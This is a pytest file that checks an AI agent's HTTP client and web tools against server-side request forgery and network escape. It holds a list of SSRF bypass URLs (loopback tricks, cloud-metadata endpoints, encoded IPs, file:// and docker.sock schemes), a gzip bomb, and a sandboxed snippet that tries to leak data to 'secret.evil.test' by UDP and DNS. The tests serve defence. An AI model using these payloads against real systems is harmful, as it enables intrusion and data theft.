"""Attack cases 46 to 60: the network, against real sockets here.

The client is the one that fetches what strangers name. Its name server is
ours; nothing that listens on this machine may be asked.
"""

import asyncio
import gzip
import socket
import tempfile
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from attack_scene import case

from claw.core.errors import ClawError, DeniedError, UnavailableError
from claw.core.tool import ToolDeps
from claw.net.guarded import GuardedClient
from claw.security.egress import check_url, is_public
from claw.security.policy import SecurityPolicy
from claw.security.settings import AutonomySettings
from claw.tools.web.fetch import WebFetch
from claw.tools.web.request import HttpRequest
from claw.tools.web.settings import HttpRequestSettings

OK = b"HTTP/1.1 200 OK\r\n"


class Site:
    """A server that notes who asks, and gives one answer."""

    def __init__(self, answer=OK + b"Content-Length: 2\r\n\r\nhi"):
        self.answer = answer
        self.heads = []

    @asynccontextmanager
    async def up(self):
        server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        self.port = server.sockets[0].getsockname()[1]
        async with server:
            yield self

    async def _serve(self, reader, writer):
        try:
            self.heads.append(await reader.readuntil(b"\r\n\r\n"))
            if callable(self.answer):
                await self.answer(writer)
            else:
                writer.write(self.answer.replace(
                    b"PORT", b"%d" % self.port))
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError):
            pass  # the client has seen enough
        finally:
            writer.close()


def fetch(url, site, *answers, allowed=is_public, **limits):
    """GET with a name server that gives each question the next answer."""
    left = list(answers)

    async def resolve(host, port):
        return left.pop(0) if len(left) > 1 else (left or [["127.0.0.1"]])[0]

    async def go():
        async with site.up():
            client = GuardedClient(check_url, allowed, resolve=resolve)
            return await client.fetch(
                url.replace("PORT", str(site.port)), **limits)
    return asyncio.run(go())


@pytest.mark.parametrize("urls", [
    case(46, "this machine", ["http://127.0.0.1:PORT/",
                              "http://127.9.9.9:PORT/",
                              "http://[::1]:PORT/"]),
    case(47, "metadata of a cloud", [
        "http://169.254.169.254/latest/meta-data/",
        "http://[fd00:ec2::254]/", "http://168.63.129.16/",
        "http://metadata.google.internal/"]),
    case(48, "IPv4 in IPv6", ["http://[::ffff:127.0.0.1]:PORT/",
                              "http://[::ffff:7f00:1]:PORT/",
                              "http://[::127.0.0.1]:PORT/"]),
    case(49, "numbers", ["http://2130706433:PORT/", "http://0x7f.1:PORT/",
                         "http://0177.0.0.1:PORT/", "http://127.1:PORT/",
                         "http://0x7f000001:PORT/"]),
    case(50, "translators", ["http://[64:ff9b::7f00:1]:PORT/",
                             "http://[2002:7f00::]:PORT/",
                             "http://[2001:0:7f00:1::]:PORT/"]),
    case(51, "a name that leads inside", ["http://127.0.0.1.nip.test:PORT/",
                                          "http://public.test:PORT/"]),
    case(54, "user information", ["http://user@127.0.0.1:PORT/",
                                  "http://u:p@127.0.0.1@evil.test:PORT/",
                                  "http://evil.test@127.0.0.1:PORT/",
                                  "http://a:b@public.test:PORT/"]),
    case(55, "other schemes", ["file:///etc/passwd", "gopher://evil.test/x",
                               "ftp://evil.test/", "data:text/plain,x",
                               "javascript:alert(1)", "//127.0.0.1:PORT/",
                               "unix:///var/run/docker.sock",
                               "http+unix://%2Frun%2Fdocker.sock/x"]),
    case(56, "special networks", [
        "http://100.64.0.1:PORT/", "http://198.18.0.1:PORT/",
        "http://0.0.0.0:PORT/", "http://localhost.:PORT/",
        "http://[fd00::1]:PORT/", "http://[fe80::1%25lo]:PORT/",
        "http://printer.local:PORT/", "http://router.lan:PORT/"]),
])
def test_an_address_inside_is_never_asked(urls):
    """By the client, and by the tools that a model calls, with a yes."""
    for url in urls:
        site = Site()
        with pytest.raises(ClawError):
            fetch(url, site)
        for tool, result in call_tools(url, site):
            assert not result.success, (tool, url)
        assert site.heads == [], url


def call_tools(url, site, allowed=is_public):
    """What each tool says that is given the address, whatever hosts the
    owner allows."""
    async def resolve(host, port):
        return ["127.0.0.1"]

    async def go():
        async with site.up():
            deps = ToolDeps(Path("/"), SecurityPolicy(
                AutonomySettings(max_actions_per_hour=100), Path("/"),
                home=Path("/")), http=GuardedClient(
                    check_url, allowed, resolve=resolve))
            web = HttpRequestSettings(enabled=True, allowed_domains=["*"])
            for tool, args in (
                    (WebFetch(deps), {}), (HttpRequest(deps, web), {}),
                    (HttpRequest(deps, web), {"method": "POST",
                                              "body": "x"})):
                yield tool.name, await tool.execute({
                    "url": url.replace("PORT", str(site.port)), **args})

    async def collect():
        return [each async for each in go()]
    return asyncio.run(collect())


def test_the_tools_reach_what_is_public():
    """Or the table above would prove nothing of them."""
    site = Site()
    results = call_tools("http://public.test:PORT/", site,
                         allowed=lambda ip: ip == "127.0.0.1")

    assert [result.success for _, result in results] == [True] * 3
    assert len(site.heads) == 3


def test_case_52_a_name_that_changes_its_mind():
    """Public when it is checked, private when it is connected: there is
    no second question, and the next hop is checked anew."""
    site = Site(OK.replace(b"200 OK", b"302 Found")
                + b"Location: http://rebind.test:PORT/2\r\n\r\n")

    with pytest.raises(DeniedError, match=r"leads to 127\.0\.0\.2"):
        fetch("http://rebind.test:PORT/", site, ["127.0.0.1"],
              ["127.0.0.2"], allowed=lambda ip: ip == "127.0.0.1")
    assert len(site.heads) == 1


@pytest.mark.parametrize("to", [case(53, "a redirect inside", [
    b"http://127.0.0.1:PORT/", b"http://169.254.169.254/",
    b"//localhost:PORT/", b"http://2130706433:PORT/", b"file:///etc/passwd",
    b"http://u@outer.test:PORT/"])])
def test_a_redirect_inside_is_not_followed(to):
    for location in to:
        site = Site(b"HTTP/1.1 302 Found\r\nLocation: " + location
                    + b"\r\n\r\n")
        with pytest.raises(ClawError):
            fetch("http://outer.test:PORT/", site,
                  allowed=lambda ip: ip == "127.0.0.1")
        assert len(site.heads) == 1, location
        site.heads.clear()
        for tool, result in call_tools("http://outer.test:PORT/", site,
                                       lambda ip: ip == "127.0.0.1"):
            # http_request tells of it, and does not follow
            assert result.success is (tool == "http_request")
        assert len(site.heads) == 3


def test_case_57_a_body_without_end_a_bomb_and_a_drip():
    async def endless(writer):
        writer.write(OK + b"\r\n")
        while not writer.is_closing():
            writer.write(b"x" * 65_536)
            await writer.drain()

    async def drip(writer):
        writer.write(OK + b"\r\n")
        while not writer.is_closing():
            writer.write(b"x")
            await writer.drain()
            await asyncio.sleep(0.01)
    bomb = gzip.compress(b"\0" * (32 << 20))
    here = {"allowed": lambda ip: True}
    for answer in (endless, OK + b"Content-Encoding: gzip\r\n"
                   b"Content-Length: %d\r\n\r\n" % len(bomb) + bomb):
        page = fetch("http://big.test:PORT/", Site(answer),
                     max_bytes=10_000, **here)
        assert (len(page.content), page.cut) == (10_000, True)
    with pytest.raises(UnavailableError, match="within"):
        fetch("http://slow.test:PORT/", Site(drip), timeout_s=0.2, **here)


def test_case_58_proxies_of_the_environment(monkeypatch):
    proxy = socket.create_server(("127.0.0.1", 0))
    proxy.setblocking(False)
    for name in ("http_proxy", "HTTP_PROXY", "ALL_PROXY", "https_proxy"):
        monkeypatch.setenv(
            name, f"http://127.0.0.1:{proxy.getsockname()[1]}")
    site = Site()
    with proxy:
        page = fetch("http://site.test:PORT/", site,
                     allowed=lambda ip: True)
        with pytest.raises(BlockingIOError):
            proxy.accept()
    assert (page.content, len(site.heads)) == (b"hi", 1)


def test_case_59_a_command_reaches_no_socket_of_the_machine(yard):
    """Such as docker's."""
    with tempfile.TemporaryDirectory(prefix="c-", dir="/tmp") as folder, \
            socket.socket(socket.AF_UNIX) as named, \
            socket.socket(socket.AF_UNIX) as abstract:
        places = [f"{folder}/docker.sock", f"\0{folder}"]
        for server, place in zip((named, abstract), places, strict=True):
            server.bind(place)
            server.listen()
        said = yard.python(f"""
import socket
for place in {places!r}:
    try:
        socket.socket(socket.AF_UNIX).connect(place)
        print("reached")
    except OSError:
        print("held")
""")
    assert said.split() == ["held", "held"]


def test_case_60_nothing_leaves_as_a_datagram(yard):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.setblocking(False)
        port = server.getsockname()[1]
        said = yard.python(f"""
import socket
for address in (("127.0.0.1", {port}), ("192.0.2.1", 53)):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
            b"secret.evil.test", address)
        print("sent")
    except OSError:
        print("held")
try:
    print(socket.getaddrinfo("secret.evil.test", 80))
except OSError:
    print("held")
""")
        with pytest.raises(BlockingIOError):
            server.recv(1)
    assert said.count("held") == 3
